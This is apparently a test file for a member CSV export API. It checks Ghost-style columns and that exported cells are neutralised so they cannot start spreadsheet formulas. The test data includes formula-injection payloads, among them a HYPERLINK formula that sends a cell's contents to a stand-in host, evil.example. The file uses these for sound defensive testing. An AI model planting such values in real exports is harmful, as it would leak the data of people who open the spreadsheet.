"""The member export: Ghost's columns, then role and disabled; no cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import re

from httpx import AsyncClient

from app.accounts.models import Role
from tests.admin.csvkit import post_csv
from tests.factories import Factory, Member

EXPORT = "/api/v1/admin/members/export.csv"
GHOST_COLUMNS = [
    "id",
    "email",
    "name",
    "note",
    "subscribed_to_emails",
    "complimentary_plan",
    "stripe_customer_id",
    "created_at",
    "deleted_at",
    "labels",
    "tiers",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def _export(client: AsyncClient, admin: Member) -> tuple[str, list[dict[str, str]]]:
    response = await client.get(EXPORT, headers=admin.headers)
    assert response.status_code == 200
    return response.text, list(csv.DictReader(io.StringIO(response.text, newline="")))


async def test_no_exported_cell_starts_a_formula(client: AsyncClient, factory: Factory) -> None:
    admin = await factory.member(role=Role.admin)
    link = '=HYPERLINK("https://evil.example/?d="&A2,"Invoice")'
    cmd = await factory.member(email="=cmd@example.org", name=link)
    minus = await factory.member(email="-2+3@example.org", name="@SUM(1+1)")
    await factory.member(email="plus@example.org", name="+1 555 0100")
    await factory.member(email="tab@example.org", name="\tTabbed")
    labelled = await client.patch(
        f"/api/v1/admin/members/{cmd.id}", json={"labels": ["=1+2", "-x"]}, headers=admin.headers
    )
    assert labelled.status_code == 200, labelled.text
    text, rows = await _export(client, admin)
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[cmd.id]["email"] == "'=cmd@example.org"
    assert by_id[cmd.id]["name"] == "'" + link
    assert by_id[cmd.id]["labels"] == "'-x,=1+2"
    assert by_id[minus.id]["email"] == "'-2+3@example.org"
    assert by_id[minus.id]["name"] == "'@SUM(1+1)"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
    # The export reads back as the same members: neutralised cells import as they were.
    report = (await post_csv(client, admin.headers, text)).json()
    assert report["errors"] == []
    assert (report["created"], report["updated"], report["unchanged"]) == (0, 0, len(rows))


async def test_export_has_ghost_columns_then_role_and_disabled(
    client: AsyncClient, factory: Factory
) -> None:
    admin = await factory.member(role=Role.admin)
    editor = await factory.member(role=Role.editor)
    gone = await factory.member()
    await client.patch(
        f"/api/v1/admin/members/{gone.id}", json={"disabled": True}, headers=admin.headers
    )
    comped = await factory.member()
    await client.post(f"/api/v1/admin/members/{comped.id}/comp", json={}, headers=admin.headers)
    text, rows = await _export(client, admin)
    assert text.splitlines()[0] == ",".join([*GHOST_COLUMNS, "role", "disabled"])
    by_id = {int(r["id"]): r for r in rows}
    assert (by_id[admin.id]["role"], by_id[admin.id]["disabled"]) == ("admin", "false")
    assert by_id[editor.id]["role"] == "editor"
    assert (by_id[gone.id]["role"], by_id[gone.id]["disabled"]) == ("reader", "true")
    assert by_id[comped.id]["complimentary_plan"] == "true"
    assert by_id[gone.id]["complimentary_plan"] == "false"
    for row in rows:
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row["created_at"])
        assert row["subscribed_to_emails"] in {"true", "false"}
